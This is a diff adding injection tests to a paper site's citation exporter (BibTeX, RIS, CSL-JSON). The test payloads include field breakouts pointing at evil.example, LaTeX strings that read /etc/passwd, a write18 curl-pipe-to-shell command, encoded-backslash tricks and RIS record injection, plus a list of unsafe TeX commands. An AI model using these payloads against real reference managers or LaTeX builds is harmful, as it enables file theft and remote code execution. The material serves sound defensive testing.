@@ -1,14 +1,27 @@
 """Citation export (papers/citations.py) and its downloads."""
 
 import json
+import re
 
 import bibtexparser
 import pytest
 import rispy
+from pylatexenc import latex2text
 from pylatexenc.latex2text import LatexNodes2Text
 
 from papers import views
-from papers.citations import FORMATS, split_name, stream, tex, to_bibtex, to_csl_json, to_ris
+from papers.citations import (
+    FORMATS,
+    UNSAFE_TEX_COMMANDS,
+    maths_is_safe,
+    one_line,
+    split_name,
+    stream,
+    tex,
+    to_bibtex,
+    to_csl_json,
+    to_ris,
+)
 from papers.models import Paper
 
 from . import factories
@@ -279,3 +292,191 @@ def test_citation_download_queries_do_not_grow_within_a_batch(
         _streamed(client.get(f"{award.get_absolute_url()}cite.json"))
 
     assert len(json.loads(text)) == 2 * papers
+
+
+# --- Values cannot break out of their field -----------------------------------------
+
+QA_PAYLOAD = "Bib break $a}}, author = {Mallory Evil}, url = {https://evil.example/}, x = {$ tail"
+BIBTEX_PAYLOADS = [
+    QA_PAYLOAD,
+    "Closer first }}, author = {Mallory Evil}, url = {https://evil.example/}, x = {",
+    "Maths closer first $}}, url = {https://evil.example/}, x = {{$ tail",
+    "Opener never closed $a{b$ and {c",
+    "Nested $a{b{c}}}}, url = {https://evil.example/}, x = {{{d}$ tail",
+    "Reads a file $\\input{/etc/passwd}$",
+    "Runs a program \\(\\immediate\\write18{curl https://evil.example/ | sh}\\)",
+    "Spelled backslash $x^^5cinput{/etc/passwd}$",
+    "New line\n@misc{evil,\n title = {Injected}\n}",
+]
+BIBTEX_FIELDS = {
+    "title",
+    "author",
+    "booktitle",
+    "year",
+    "pages",
+    "address",
+    "doi",
+    "eprint",
+    "archiveprefix",
+    "url",
+    "abstract",
+}
+
+
+def _latex_text(value):
+    """A BibTeX value read back as plain text, as a reference manager shows it."""
+    context = latex2text.get_default_latex_context_db()
+    context.add_context_category(
+        "braces",
+        macros=[
+            latex2text.MacroTextSpec("textbraceleft", "{"),
+            latex2text.MacroTextSpec("textbraceright", "}"),
+        ],
+        prepend=True,
+    )
+    text = latex2text.LatexNodes2Text(latex_context=context).latex_to_text(value)
+    return text.replace("ˆ", "^")
+
+
+def _only_entry(text):
+    library = bibtexparser.parse_string(text)
+    assert library.failed_blocks == []
+    [entry] = library.entries
+    return entry
+
+
+@pytest.mark.parametrize("payload", BIBTEX_PAYLOADS)
+def test_bibtex_title_cannot_add_fields_or_entries(db, payload):
+    paper = _paper(db_title=payload, abstract_en=payload)
+
+    text = to_bibtex([paper], {paper.pk: "https://awards.example.org/en/papers/x/"})
+    entry = _only_entry(text)
+
+    assert set(entry.fields_dict) == BIBTEX_FIELDS
+    assert entry["url"] == "https://proceedings.mlr.press/v267/x25a.html"
+    assert _latex_text(entry["title"]) == _latex_text(entry["abstract"]) == one_line(payload)
+    commands = set(re.findall(r"\\([A-Za-z]+)", text))
+    assert not commands & UNSAFE_TEX_COMMANDS
+    assert "^^" not in text
+
+
+def test_bibtex_names_pages_and_identifiers_cannot_add_fields(db):
+    evil = "}, url = {https://evil.example/}, x = {"
+    conference = factories.conference(
+        year=2025, city_en=f"City{evil}", venue=factories.venue(name_en=f"Venue{evil}")
+    )
+    paper = factories.paper(
+        conference=conference,
+        authors=[factories.author(name=f"Ada {evil}Lovelace")],
+        links=[
+            ("doi", "https://doi.org/10.5555/x},url={https://evil.example/"),
+            ("arxiv", "https://arxiv.org/abs/2502.13228}"),
+        ],
+        pages="1},x={2",
+    )
+    paper = Paper.objects.for_citation().get(pk=paper.pk)
+
+    entry = _only_entry(to_bibtex([paper], {paper.pk: "https://x/"}))
+
+    assert set(entry.fields_dict) == BIBTEX_FIELDS
+    assert _latex_text(entry["booktitle"]) == f"Venue{evil}"
+    assert _latex_text(entry["address"]) == f"City{evil}, Canada"
+    assert entry["doi"] == "10.5555/x%7D,url=%7Bhttps://evil.example/"
+    assert entry["eprint"] == "2502.13228%7D"
+    assert entry["url"] == "https://doi.org/10.5555/x%7D,url=%7Bhttps://evil.example/"
+    assert _latex_text(entry["pages"]) == "1},x={2"
+
+
+@pytest.mark.parametrize(
+    ("formula", "safe"),
+    [
+        ("O(n)", True),
+        ("\\frac{1}{2}", True),
+        ("\\{x_i\\}_{i=1}^{n}", True),
+        ("\\mathbb{E}[\\ell] \\le 50\\%", True),
+        ("\\begin{array}{c} a \\\\ b \\end{array}", True),
+        ("a}{b", False),  # a prefix closes a group never opened
+        ("a{b", False),  # never closed
+        ("\\{x", False),  # BibTeX counts escaped braces too
+        ("\\input{/etc/passwd}", False),
+        ("\\immediate\\write18{ls}", False),
+        ("\\def\\x{y}", False),
+        ("\\csname input\\endcsname", False),
+        ("\\everymath{x}", False),
+        ("x^^5cinput", False),
+        ("a % comment", False),
+        ("a$b", False),
+        ("x\\", False),
+    ],
+)
+def test_maths_is_safe(formula, safe):
+    assert maths_is_safe(formula) is safe
+
+
+def test_tex_keeps_safe_maths_and_escapes_the_rest():
+    maths = "$\\mathcal{O}(\\sqrt{T})$ regret over \\(\\{x_i\\}_{i=1}^n\\)"
+    assert tex(maths) == "$\\mathcal{O}(\\sqrt{T})$ regret over $\\{x_i\\}_{i=1}^n$"
+    assert tex("See $\\input{a}$") == "See \\${\\textbackslash}input\\{a\\}\\$"
+    assert tex("a } b {x}") == "a {\\textbraceright} b {\\textbraceleft}x{\\textbraceright}"
+
+
+def test_bibtex_keeps_the_maths_of_a_real_abstract(icml):
+    paper = Paper.objects.for_citation().get(
+        slug="statistical-query-hardness-multiclass-linear-classification"
+    )
+    paper.abstract_en = paper.summary_en
+
+    entry = _only_entry(to_bibtex([paper], {paper.pk: "https://x/"}))
+
+    assert "into $k$ distinct classes" in entry["abstract"]
+
+
+RIS_PAYLOAD = "Title\nTY  - JOUR\nUR  - https://evil.example/\nER  - \n\nTY  - JOUR\r\nT1  - x"
+
+
+def test_ris_values_cannot_start_tags_or_records(db):
+    conference = factories.conference(
+        year=2025, city_en=RIS_PAYLOAD, venue=factories.venue(name_en=RIS_PAYLOAD)
+    )
+    paper = factories.paper(
+        conference=conference,
+        title_en=RIS_PAYLOAD,
+        abstract_en=RIS_PAYLOAD,
+        authors=[factories.author(name="Ada\u2028ER  - \u2029TY  - JOUR")],
+        pages="1\nUR  - https://evil.example/",
+    )
+    paper = Paper.objects.for_citation().get(pk=paper.pk)
+
+    text = to_ris([paper], {paper.pk: "https://x/"})
+    [record] = rispy.loads(text)
+
+    assert set(record) == {
+        "type_of_reference",
+        "title",
+        "authors",
+        "year",
+        "secondary_title",
+        "urls",
+        "language",
+        "start_page",
+        "end_page",
+        "place_published",
+        "abstract",
+    }
+    assert record["type_of_reference"] == "CPAPER"
+    assert record["title"] == record["abstract"] == one_line(RIS_PAYLOAD)
+    assert record["urls"] == ["https://x/"]
+    # The page range splits at the tag's dash; the new line is a space.
+    assert (record["start_page"], record["end_page"]) == ("1 UR", "https://evil.example/")
+    assert text.count("\nTY  - ") == 0 and text.count("ER  - ") == 1
+
+
+def test_csl_json_values_stay_strings(db):
+    payload = '"}, "URL": "https://evil.example/", "x": {"\n\\u0000 </script>'
+    paper = _paper(db_title=payload, abstract_en=payload)
+
+    [item] = json.loads(to_csl_json([paper], {paper.pk: "https://x/"}))
+
+    assert item["title"] == item["abstract"] == one_line(payload)
+    assert item["URL"] == "https://proceedings.mlr.press/v267/x25a.html"
+    assert "x" not in item
